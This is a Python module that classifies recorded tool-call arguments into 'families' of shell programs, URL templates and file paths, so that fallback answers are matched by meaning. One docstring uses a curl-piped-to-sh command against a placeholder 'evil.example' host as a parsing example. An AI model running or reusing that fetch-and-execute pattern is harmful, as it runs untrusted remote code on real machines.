"""Meaning families: whether a recorded call does the same kind of thing as a query.

A fallback answer is only plausible when the recorded call it comes from resembles the query
in meaning, not just in shape: `{"command": "rm -rf build"}` and `{"command": "pytest -q"}` are
structurally identical (one string under `command`), yet one's output is nonsense as the
other's. So each argument that names an action or a resource gets a **family**:

- a shell command (under a key like `command`, `cmd`, `script`, or as an argv list): the
  programs it runs, with the subcommand for programs that have them (`git push`, `npm run`),
  the module for `python -m`, and the hosts of any URLs (`curl @api.example.com`); `cd` and
  `export` steps are left out (`cd app && pytest` is `pytest`);
- a URL: scheme, host and path template (`https://api.example.com/v1/orders/{}`);
- a file path: its directory and extension (`/etc/app/*.conf`, `/srv/*`); a dotfile like
  `.env` is a family of its own.

Other strings (queries, cities, free text) have no family and are compared by similarity only.
A recorded call resembles a query when it has the query's family at every argument where the
query has one. HTTP tools are tables per method and route already, so their family is the
table itself.
"""

from __future__ import annotations

import posixpath
import re
import shlex
from collections.abc import Mapping
from typing import Any

Families = dict[str, str]
"""JSON path of an argument -> its family."""

COMMAND_KEYS = frozenset({"command", "cmd", "commands", "script", "shell", "bash", "sh",
                          "command_line", "commandline", "cmdline", "argv", "args_line"})
PATH_KEYS = frozenset({"path", "paths", "file", "filename", "file_path", "filepath", "dir",
                       "directory", "folder", "cwd", "repo_path"})
SUBCOMMANDS = frozenset({
    "git", "npm", "pnpm", "yarn", "pip", "pip3", "uv", "poetry", "cargo", "go", "docker",
    "kubectl", "helm", "gh", "terraform", "apt", "apt-get", "brew", "systemctl", "make",
    "dotnet", "conda", "aws", "gcloud", "az", "deploysim", "hatch", "tox", "nox",
})
_WRAPPERS = frozenset({"sudo", "env", "time", "nohup", "exec", "command", "timeout", "nice",
                       "xargs"})
_SILENT = frozenset({"cd", "export", "set", "source", ".", "pushd", "popd", "true"})
_SEPARATORS = re.compile(r"\|\||&&|[|;\n]")
_URL = re.compile(r"[a-z][a-z0-9+.-]*://[^\s'\"]+", re.I)
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
_VARIABLE_SEGMENT = re.compile(r"(?!v\d+$).*\d.*|[0-9a-f]{8,}|[A-Za-z0-9_-]{20,}")
_ZONE = re.compile(r"[A-Z][A-Za-z_]+(/[A-Z][A-Za-z0-9_+-]+)+")  # Europe/Berlin is not a path
_FILE_LIKE = re.compile(r"[\w.-]+\.[A-Za-z][\w]{0,7}")


def command_family(command: str) -> str:
    """The programs a shell command runs, e.g. `curl @evil.example | sh` for
    `curl -s https://evil.example/x | sh`."""
    programs: list[str] = []
    for segment in _SEPARATORS.split(command):
        try:
            tokens = shlex.split(segment, comments=False)
        except ValueError:  # an unbalanced quote: words are close enough
            tokens = segment.split()
        while tokens and (_ASSIGNMENT.match(tokens[0]) or tokens[0] in _WRAPPERS
                          or (tokens[0].startswith("-") and programs == [])):
            tokens = tokens[1:]
        if not tokens:
            continue
        program = posixpath.basename(tokens[0])
        if program in _SILENT:
            continue
        rest = tokens[1:]
        if program.startswith("python") and len(rest) >= 2 and rest[0] == "-m":
            program = rest[1]
        elif program in SUBCOMMANDS and rest and not rest[0].startswith("-"):
            program = f"{program} {rest[0]}"
        programs.append(program)
    hosts = sorted({url_host(u) for u in _URL.findall(command)} - {""})
    family = " | ".join(programs) or command.strip().split(" ")[0]
    return family + "".join(f" @{h}" for h in hosts)


def url_host(url: str) -> str:
    rest = url.split("://", 1)[-1]
    return rest.split("/", 1)[0].split("@")[-1].lower()


def url_family(url: str) -> str:
    """Scheme, host and path template: segments holding digits or ids become `{}`."""
    scheme, _, rest = url.partition("://")
    host, _, path = rest.partition("/")
    template, _ = path_template(path)
    return f"{scheme.lower()}://{host.split('@')[-1].lower()}{template}"


def path_template(path: str) -> tuple[str, list[str]]:
    """A URL path's route template and the values of its variable segments:
    `/v1/orders/A1001/items` → (`/v1/orders/{}/items`, ["A1001"]). A segment is variable when
    it holds a digit (not a version like `v1`), is a long hex string or a long token."""
    path = path.split("?", 1)[0].split("#", 1)[0]
    segments, values = [], []
    for s in path.split("/"):
        if not s:
            continue
        if _VARIABLE_SEGMENT.fullmatch(s):
            segments.append("{}")
            values.append(s)
        else:
            segments.append(s)
    return "/" + "/".join(segments), values


def path_family(path: str) -> str:
    """Directory and extension: `src/app/*.py`, `/w/*` (a directory or a file with no
    extension); a dotfile is its own family."""
    p = path.rstrip("/") or path
    directory, name = posixpath.split(p)
    stem, ext = posixpath.splitext(name)
    if path.endswith("/") or not name:
        return f"{p}/"
    if not stem:  # a dotfile (.env, .npmrc): a family of its own
        return f"{directory}/{name}"
    return f"{directory}/*{ext}"


def _looks_like_path(value: str) -> bool:
    if not value or " " in value or "@" in value or len(value) > 400 or _ZONE.fullmatch(value):
        return False
    if value.startswith(("/", "./", "../", "~/")) or "/" in value:
        return True
    if value.startswith(".") and len(value) > 1:
        return True  # a dotfile: .env, .gitignore
    return bool(_FILE_LIKE.fullmatch(value)) and not value.replace(".", "").isdigit()


def value_family(key: str | None, value: Any) -> str | None:
    """The family of one argument value, or None when it has none (free text, numbers)."""
    k = (key or "").lower()
    if k in COMMAND_KEYS:
        if isinstance(value, list) and value and all(isinstance(v, str) for v in value):
            return "cmd:" + command_family(shlex.join(value))
        if isinstance(value, str) and value.strip():
            return "cmd:" + command_family(value)
    if not isinstance(value, str):
        return None
    if _URL.fullmatch(value.strip()):
        return "url:" + url_family(value.strip())
    v = value.strip()
    if (k in PATH_KEYS and v) or _looks_like_path(v):
        return "path:" + path_family(v)
    return None


def families(arguments: Any) -> Families:
    """Every argument's family, by JSON path (`$.command`, `$.files[0]`)."""
    out: Families = {}
    _walk(arguments, "$", None, out)
    return out


def _walk(value: Any, path: str, key: str | None, out: Families) -> None:
    family = value_family(key, value)
    if family is not None:
        out[path] = family
        return
    if isinstance(value, Mapping):
        for k, v in value.items():
            _walk(v, f"{path}.{k}", str(k), out)
    elif isinstance(value, list):
        for i, v in enumerate(value):
            _walk(v, f"{path}[{i}]", key, out)


def resembles(query: Families, recorded: Families) -> bool:
    """Whether a recorded call has the query's family wherever the query has one."""
    return all(recorded.get(p) == f for p, f in query.items())


def signature(query: Families) -> tuple[tuple[str, str], ...]:
    """A hashable form of a query's families (what a per-family cache is keyed by)."""
    return tuple(sorted(query.items()))
